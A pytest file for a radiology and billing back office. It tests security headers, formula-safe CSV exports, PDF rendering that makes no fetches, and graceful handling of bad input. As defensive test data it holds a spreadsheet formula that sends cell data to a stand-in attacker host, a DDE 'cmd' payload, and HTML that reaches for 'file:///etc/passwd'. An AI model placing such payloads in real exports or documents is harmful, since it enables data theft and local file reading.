"""The web edge: security headers and no caching, formula-free exports, PDFs without fetching, 4xx on bad input."""

from __future__ import annotations

import http.server
import re
import threading
from pathlib import Path

import pytest

from backoffice.auth.models import ROLES
from backoffice.billing import services as S
from tests.helpers import ROOT
from tests.radiology_support import make_history


@pytest.fixture
def users(app):
    """One user (and one bearer token) per role."""
    from backoffice.auth.services import create_token, create_user

    out = {}
    with app.extensions["archivage"].new_session(write=True) as s:
        for role in ROLES:
            user = create_user(s, f"edge_{role}", role=role, password="correct horse battery")
            out[role] = (user.id, create_token(s, user.login))
        s.commit()
    return out


def sign_in(client, user_id):
    with client.session_transaction() as session:
        session["_user_id"] = str(user_id)
        session["_fresh"] = True


@pytest.fixture
def history(facade):
    return make_history(facade.archive)


@pytest.fixture
def billed(app, facade, history):
    """Two invoices of the history's patient; the first has a payment."""
    with facade.new_session(write=True) as s:
        ids = []
        for group in ("radiologie", "echographie"):
            g = S.create_exam_group(s, patient_id=history.patient_id, visit_date=S.paris_today(), exam_group=group,
                                    created_by="t", patient_name="Martin^Élise")
            ids.append(S.issue_invoice(s, g.id, issued_by="t").id)
        payment = S.record_payment(s, ids[0], amount_cents=100, method="cash", received_by="t")
        s.commit()
        return {"invoices": ids, "payment": payment.id, "group": g.id}


# -- headers -----------------------------------------------------------------------------------------


def _assert_edge_headers(response):
    csp = response.headers.get("Content-Security-Policy", "")
    if response.mimetype == "text/html":
        assert "frame-ancestors 'none'" in csp and "default-src 'self'" in csp and "object-src 'none'" in csp
        assert "'unsafe-inline'" not in csp.split("style-src-attr")[0]  # scripts and style elements need the nonce
    elif response.mimetype == "application/pdf":
        # Chromium's PDF viewer is an <embed> under the PDF's own policy: framing guard only.
        assert csp == "frame-ancestors 'self'"
    else:
        assert "default-src 'none'" in csp and "frame-ancestors 'none'" in csp
    assert response.headers.get("X-Content-Type-Options") == "nosniff"
    assert response.headers.get("Referrer-Policy") in ("no-referrer", "same-origin")
    assert "no-store" in response.headers.get("Cache-Control", "")
    # Each header once, the view's own (a PDF's Cache-Control, the viewer's CSP) replaced or kept, never sent
    # a second time beside the edge's: a client may read either copy.
    for name in ("Content-Security-Policy", "X-Content-Type-Options", "Referrer-Policy", "X-Frame-Options",
                 "Cache-Control", "Pragma", "Expires"):
        assert len(response.headers.getlist(name)) == 1, (name, response.headers.getlist(name))


def test_pages_pdfs_images_and_api_answers_carry_csp_nosniff_referrer_policy_and_no_store(app, client, users,
                                                                                         history, billed):
    """Before: no CSP, no nosniff, no Referrer-Policy; images were `private, max-age=3600` on shared desk PCs."""
    _assert_edge_headers(client.get("/login"))
    sign_in(client, users["radiologist"][0])
    facade = app.extensions["archivage"]
    with facade.new_session() as s:
        sop = facade.study_instances(s, history.current)[0].sop_instance_uid
    image = client.get(f"/radiology/instances/{sop}/image?size=64")
    assert image.status_code == 200 and image.mimetype.startswith("image/")
    _assert_edge_headers(image)
    assert "max-age" not in image.headers["Cache-Control"]
    _assert_edge_headers(client.get(f"/radiology/studies/{history.current}"))
    reproduction = client.get(f"/radiology/studies/{history.current}/reproduction.pdf")
    assert reproduction.data.startswith(b"%PDF")
    _assert_edge_headers(reproduction)
    sign_in(client, users["front_desk"][0])
    receipt = client.get(f"/billing/invoices/{billed['invoices'][0]}/receipt.pdf")
    assert receipt.data.startswith(b"%PDF")
    _assert_edge_headers(receipt)
    api = client.get(f"/api/v1/invoices/{billed['invoices'][0]}/invoice.pdf",
                     headers={"Authorization": f"Bearer {users['front_desk'][1]}"})
    assert api.status_code == 200
    _assert_edge_headers(api)


def test_every_inline_script_and_style_carries_the_responses_nonce(app, client, users, history):
    """Under the CSP an inline script without the nonce would not run: the viewer and the study page must work."""
    sign_in(client, users["radiologist"][0])
    for path in ("/", f"/radiology/studies/{history.current}", f"/radiology/studies/{history.current}/viewer",
                 "/radiology/"):
        response = client.get(path)
        assert response.status_code == 200, path
        nonce = re.search(r"'nonce-([^']+)'", response.headers["Content-Security-Policy"]).group(1)
        html = response.get_data(as_text=True)
        tags = re.findall(r"<(script|style)\b([^>]*)>", html)
        assert tags, path
        for name, attributes in tags:
            if 'type="application/json"' in attributes:
                continue  # data, never run
            assert f'nonce="{nonce}"' in attributes, (path, name, attributes)
    assert client.get("/").headers["Content-Security-Policy"] != client.get("/").headers["Content-Security-Policy"]


def test_no_template_has_inline_event_handlers_or_javascript_urls():
    """onclick= and javascript: URLs cannot carry a nonce: the CSP would silently break them."""
    offenders = []
    for template in (ROOT / "templates").rglob("*.html"):
        text = template.read_text(encoding="utf-8")
        if re.search(r"\son[a-z]+\s*=", text) or "javascript:" in text:
            offenders.append(template.name)
    assert offenders == []


# -- exports ------------------------------------------------------------------------------------------


FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Voir")'


def test_csv_and_fec_exports_neutralise_formulas_from_patient_data(app, client, users):
    """A patient named =HYPERLINK(...) (and an ID starting with @) came out verbatim in both exports."""
    with app.extensions["archivage"].new_session(write=True) as s:
        g = S.create_exam_group(s, patient_id="@SUM(1+1)*cmd", visit_date=S.paris_today(), exam_group="radiologie",
                                created_by="t", patient_name=FORMULA)
        invoice = S.issue_invoice(s, g.id, issued_by="t")
        S.record_payment(s, invoice.id, amount_cents=100, method="cash", received_by="t")
        s.commit()
    sign_in(client, users["manager"][0])
    today = S.paris_today().isoformat()
    for path, sep in ((f"/billing/exports/invoices.csv?start={today}&end={today}", ";"),
                      (f"/billing/exports/fec.txt?start={today}&end={today}", "\t")):
        text = client.get(path).get_data(as_text=True)
        cells = [cell.strip('"') for line in text.splitlines() for cell in line.split(sep)]
        assert any(cell.startswith("'@SUM") for cell in cells), path
        dangerous = [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not re.fullmatch(r"-[\d,.]+", c))]
        assert dangerous == [], path
        if sep == "\t":
            assert any(cell.startswith("'=HYPERLINK") for cell in cells)


def test_audit_csv_neutralises_a_failed_login_name(app, client, users):
    """The audit export wrote failed-login names (typed by anyone) verbatim: `=cmd|' /C calc'!A0`."""
    import re as _re

    login_page = client.get("/login").get_data(as_text=True)
    token = _re.search(r'name="csrf_token"[^>]*?value="([^"]+)"', login_page).group(1)
    client.post("/login", data={"login": "=cmd|' /C calc'!A0", "password": "whatever it is", "csrf_token": token})
    sign_in(client, users["manager"][0])
    text = client.get("/retention/audit?format=csv").get_data(as_text=True)
    assert "'=cmd|" in text
    assert not any(cell.strip('"').startswith("=") for line in text.splitlines() for cell in line.split(";"))


def test_safe_cell_keeps_numbers_and_text_and_quotes_every_formula_start():
    from backoffice.spreadsheet import safe_cell

    assert [safe_cell(v) for v in ("-1250", "-12,50", "+3", "Dupont", "", None, 12)] == \
        ["-1250", "-12,50", "+3", "Dupont", "", "", "12"]
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(start + "1+1 x") == "'" + start + "1+1 x"


# -- PDFs ---------------------------------------------------------------------------------------------


@pytest.fixture
def listener():
    """An HTTP server on a free port that counts the requests it receives."""
    hits = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802
            hits.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_address[1], hits
    server.shutdown()
    server.server_close()


def _png(path: Path) -> Path:
    from PIL import Image

    Image.new("RGB", (40, 40), (255, 0, 0)).save(path)
    return path


def test_documents_fetch_no_url_and_read_no_file(tmp_path, listener):
    """WeasyPrint's default fetcher fetched http:// and read file:// (an image, a stylesheet) while rendering."""
    from backoffice.pdf import html_to_pdf

    port, hits = listener
    png = _png(tmp_path / "secret.png")
    embedded = ('<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQ'
                'DwAEhQGAhKmMIQAAAABJRU5ErkJggg==">')
    html = (f'<p>Martin<img src="http://127.0.0.1:{port}/pixel.png"></p>'
            f'<link rel="stylesheet" href="http://127.0.0.1:{port}/style.css">'
            f'<link rel="stylesheet" href="file:///etc/passwd"><img src="file://{png}">' + embedded)
    pdf = html_to_pdf(html)
    assert pdf.startswith(b"%PDF")
    assert hits == []
    # The data: image is drawn, the file's is not: same images as a document holding the data: one alone.
    assert pdf.count(b"/Subtype /Image") == html_to_pdf(embedded).count(b"/Subtype /Image") > 0


def test_a_report_with_markup_renders_without_any_request(app, client, users, history, listener):
    """The reproduction carries the report text: `<img src="http://127.0.0.1:PORT/">` in it makes no request.

    End to end through the page; Jinja's escaping already keeps this markup inert, so this guards the whole
    path, while test_documents_fetch_no_url_and_read_no_file proves the fetcher itself refuses."""
    from backoffice.radiology import services as R

    port, hits = listener
    payload = f'<img src="http://127.0.0.1:{port}/r.png"> <link rel=stylesheet href="file:///etc/passwd">'
    with app.extensions["archivage"].new_session(write=True) as s:
        R.save_draft(s, history.current, author="edge_radiologist", indication=payload, technique=payload,
                     findings=payload, conclusion=payload)
        R.sign_report(s, history.current, signed_by="edge_radiologist")
        s.commit()
    sign_in(client, users["radiologist"][0])
    response = client.get(f"/radiology/studies/{history.current}/reproduction.pdf")
    assert response.status_code == 200 and response.data.startswith(b"%PDF")
    assert hits == []


# -- bad input: a clear 4xx, never a 500 -----------------------------------------------------------


JUNK_VALUES = ("bad", "-1", "9" * 30, "2026-02-30")
RENDER_ARGS = ("size", "frame", "wc", "ww", "fmt", "series")  # read through RenderParams


def _arg_names(view) -> list[str]:
    """The query arguments the view's module (and the API's shared helpers) read."""
    import inspect

    sources = [inspect.getsource(inspect.getmodule(inspect.unwrap(view)))]
    sources.append((ROOT / "backoffice" / "api" / "__init__.py").read_text())
    names = set(RENDER_ARGS)
    for source in sources:
        names |= set(re.findall(r'(?:request\.)?args(?:\.get(?:list)?\(|\[)"(\w+)"', source))
    return sorted(names)


def test_bad_input_on_every_get_route_answers_4xx_never_500(app, client, users, history, billed):
    """Each GET route, as a user of a role it allows, with junk path values and each query argument the code
    reads set to junk (not a date, negative, 30 digits, 30 February, a lone %); no answer may be a 500.
    Before: `/billing/?date=bad` raised (500), so did a receipt for another invoice's payment."""
    app.config["PROPAGATE_EXCEPTIONS"] = False  # a crash answers 500 here instead of raising in the test
    facade = app.extensions["archivage"]
    with facade.new_session() as s:
        instances = facade.study_instances(s, history.current)
        series_uid = facade.study_detail(s, history.current).series[0].series_uid
    real = {"study_uid": history.current, "sop_instance_uid": instances[0].sop_instance_uid,
            "series_uid": series_uid,
            "invoice_id": billed["invoices"][1], "group_id": billed["group"], "patient_id": history.patient_id}
    failures = []
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or rule.endpoint == "static":
            continue
        roles = getattr(app.view_functions[rule.endpoint], "allowed_roles", ROLES)
        role = roles[0]
        headers = {"Authorization": f"Bearer {users[role][1]}"} if rule.rule.startswith("/api/") else {}
        sign_in(client, users[role][0])
        paths = set()
        for pick in ("real", "junk") if "<" in rule.rule else ("real",):
            def value(match):
                converter, name = match.group(1), match.group(2)
                if pick == "real" and name in real:
                    return str(real[name])
                return "9" * 30 if converter == "int" else "1.2.x%25"
            paths.add(re.sub(r"<(?:([a-z]+):)?([a-z_]+)>", value, rule.rule))
        for path in sorted(paths):
            names = _arg_names(app.view_functions[rule.endpoint])
            queries = [{}] + [{name: junk} for name in names for junk in JUNK_VALUES]
            for query in queries:
                response = client.get(path, query_string=query, headers=headers)
                if response.status_code >= 500:
                    failures.append((path, query, response.status_code))
    assert failures == []


def test_a_receipt_for_another_invoices_payment_is_a_404(client, users, billed):
    """Before: the page raised NotFound unhandled (500)."""
    sign_in(client, users["front_desk"][0])
    response = client.get(f"/billing/invoices/{billed['invoices'][1]}/receipt.pdf?payment_id={billed['payment']}")
    assert response.status_code == 404
    assert "paiement" in response.get_data(as_text=True).lower()
    api = client.get(f"/api/v1/invoices/{billed['invoices'][1]}/receipt.pdf?payment_id={billed['payment']}",
                     headers={"Authorization": f"Bearer {users['front_desk'][1]}"})
    assert api.status_code == 404 and api.get_json()["error"]["code"] == "not_found"


def test_a_bad_date_on_the_desk_page_is_a_400_with_a_message(client, users):
    sign_in(client, users["front_desk"][0])
    response = client.get("/billing/?date=bad")
    assert response.status_code == 400
    assert "date" in response.get_data(as_text=True).lower()


# -- the instance folder is the service user's ------------------------------------------------------


_RENDER_AND_PRINT = """
from archive_core.render import RenderParams
from backoffice.billing import documents, services as S
from wsgi import app

facade = app.extensions["archivage"]
with app.app_context():
    with facade.new_session(write=True) as s:
        group = S.create_exam_group(s, patient_id="PERM-1", visit_date=S.paris_today(), exam_group="radiologie",
                                    created_by="t", patient_name="Martin^Paul")
        invoice_id = S.issue_invoice(s, group.id, issued_by="t").id
        s.commit()
    documents.invoice_pdf(facade.new_session, invoice_id)
import sys
sop_uid = sys.argv[1]
with facade.new_session() as s:
    facade.render_instance(s, sop_uid, RenderParams(size=64))
facade.archive.close()
"""


def test_instance_files_are_private_to_the_service_user(tmp_path):
    """Before: the SQLite database and the render cache were 0644 (readable by every account of the machine).
    The commands run with a permissive umask (022), as from a login shell; what they create must still be
    0600 files in 0700 folders: database, config, storage, render cache, invoice documents."""
    import os
    import stat
    import subprocess
    import sys

    from pydicom.uid import generate_uid

    from tests.radiology_support import ct_slice
    from tests.servers import archive_env

    instance = tmp_path / "instance-perm"
    env = {**os.environ, **archive_env(instance)}

    def run(*args, stdin=None):
        result = subprocess.run(args, cwd=ROOT, env=env, capture_output=True, text=True, input=stdin, timeout=300,
                                preexec_fn=lambda: os.umask(0o022))
        assert result.returncode == 0, result.stderr
        return result

    flask = [sys.executable, "-m", "flask", "--app", "wsgi"]
    run(*flask, "db", "upgrade")
    run(*flask, "users", "create", "radio", "--role", "radiologist", "--password-stdin", stdin=PASSWORD_LINE)
    incoming = tmp_path / "incoming"
    incoming.mkdir()
    ds = ct_slice(generate_uid(), generate_uid(), 1, patient_id="PERM-1")
    ds.save_as(incoming / "ct.dcm", enforce_file_format=True)
    run(*flask, "archive", "import", str(incoming))
    run(sys.executable, "-c", _RENDER_AND_PRINT, str(ds.SOPInstanceUID))

    seen = {"files": 0, "dirs": 0, "pdf": 0, "sqlite": 0, "render": 0, "dcm": 0}
    loose = []
    for path in [instance, *instance.rglob("*")]:
        mode = stat.S_IMODE(path.lstat().st_mode)
        if path.is_symlink():
            continue
        kind = "dirs" if path.is_dir() else "files"
        seen[kind] += 1
        seen["pdf"] += path.suffix == ".pdf"
        seen["sqlite"] += path.name.startswith("archivage.sqlite3")
        seen["render"] += "render" in str(path.relative_to(instance)) and kind == "files"
        seen["dcm"] += kind == "files" and "storage" in str(path.relative_to(instance))
        if mode & 0o077:
            loose.append((str(path.relative_to(instance)), oct(mode)))
    assert loose == []
    assert seen["pdf"] and seen["sqlite"] and seen["render"] and seen["dcm"], seen


PASSWORD_LINE = "correct horse battery\n"


def test_only_the_viewer_may_start_workers_and_compile_webassembly(client, users, history):
    """The viewer's page allows its decoding workers and WebAssembly codecs (worker-src, 'wasm-unsafe-eval');
    no other page does, and the worker script's own policy lets it fetch from our origin only.
    Bad configurations: the relaxation applied to every page, or a worker left under default-src 'none'."""
    sign_in(client, users["radiologist"][0])
    viewer = client.get(f"/radiology/studies/{history.current}/viewer").headers["Content-Security-Policy"]
    assert "worker-src 'self' blob:" in viewer and "'wasm-unsafe-eval'" in viewer and "'unsafe-eval'" not in viewer
    study = client.get(f"/radiology/studies/{history.current}").headers["Content-Security-Policy"]
    assert "worker-src" not in study and "wasm-unsafe-eval" not in study
    worker = client.get("/static/vendor/viewer/decodeImageFrameWorker.js")
    assert worker.status_code == 200 and worker.mimetype == "text/javascript"
    policy = worker.headers["Content-Security-Policy"]
    assert "script-src 'self' 'wasm-unsafe-eval'" in policy and "connect-src 'self'" in policy
    assert "no-store" not in worker.headers.get("Cache-Control", "")  # the 4 MB bundle may be cached
    worker.close()
    wasm = client.get("/static/vendor/viewer/libjpegturbowasm_decode.wasm")
    assert wasm.status_code == 200 and wasm.mimetype == "application/wasm"
    wasm.close()
